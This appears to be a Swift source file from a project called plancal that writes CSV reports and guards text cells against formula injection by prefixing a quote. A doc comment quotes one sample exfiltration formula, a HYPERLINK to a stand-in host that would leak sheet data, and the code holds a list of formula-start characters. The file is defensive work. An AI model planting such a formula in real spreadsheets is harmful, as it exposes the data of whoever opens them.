/// CSV as plancal writes it: RFC 4180 quoting, UTF-8 with a byte-order mark (so spreadsheets keep
/// the diacritics) and CRLF line ends, with every text cell neutralised against formula injection.
///
/// A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, after trimming, a tab or
/// carriage return) as a formula: a note `=HYPERLINK("http://evil.example/?x="&A1,"xem")` typed by
/// anyone with a unit's token would send the sheet's data away when a ward official opens the
/// report. So text cells starting with one of these get a leading `'` (OWASP's CSV injection
/// rule), which spreadsheets show as plain text. Numbers plancal computed are written as they are,
/// so `-3` and `14,3%` stay numbers.
public enum CSV {
    /// One cell: text (neutralised) or a number (written as it is). Make one with `CSV.text(_:)`
    /// or `CSV.number(_:)`.
    public struct Cell: Sendable, Equatable {
        /// The cell's value before quoting.
        public let value: String

        fileprivate init(_ value: String) { self.value = value }
    }

    /// A text cell: anything a person or the plan wrote (names, labels, notes, links).
    public static func text(_ s: String) -> Cell {
        Cell(neutralised(s))
    }

    /// A number plancal computed.
    public static func number(_ n: Int) -> Cell { Cell(String(n)) }

    /// A number already formatted, e.g. `14,3%`, `-3`, `1.550` or empty for no value. Anything
    /// that is not of that form is written as text, neutralised: a number cell cannot smuggle in
    /// a formula.
    public static func number(_ formatted: String) -> Cell {
        isNumber(formatted) ? Cell(formatted) : text(formatted)
    }

    /// Characters that make a spreadsheet read a cell as a formula (OWASP), and their full-width
    /// forms, which some spreadsheets in East Asian locales normalise to them.
    static let formulaStarts: Set<Character> = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]

    /// The text with a leading `'` when a spreadsheet would take it for a formula.
    public static func neutralised(_ s: String) -> String {
        guard let first = s.unicodeScalars.first.map(Character.init), formulaStarts.contains(first) else { return s }
        return "'" + s
    }

    /// Digits with an optional leading minus, `.` or `,` between groups and an optional `%`; or empty.
    static func isNumber(_ s: String) -> Bool {
        var body = Substring(s)
        if body.isEmpty { return true }
        if body.hasPrefix("-") { body = body.dropFirst() }
        if body.hasSuffix("%") { body = body.dropLast() }
        let groups = body.split(separator: ".", omittingEmptySubsequences: false)
            .flatMap { $0.split(separator: ",", omittingEmptySubsequences: false) }
        return groups.allSatisfy { !$0.isEmpty && $0.allSatisfy { $0.isASCII && $0.isNumber } }
    }

    /// One field as written: quoted when it holds a comma, a quote or a line break.
    static func field(_ cell: Cell) -> String {
        let s = cell.value
        return s.contains(where: { $0 == "," || $0 == "\"" || $0.isNewline })
            ? "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : s
    }

    /// A whole file: a byte-order mark, the header row, then the rows, each ended by CRLF.
    public static func document(header: [String], rows: [[Cell]]) -> String {
        let lines = [header.map(text)] + rows
        return "\u{FEFF}" + lines.map { $0.map(field).joined(separator: ",") }.joined(separator: "\r\n") + "\r\n"
    }
}
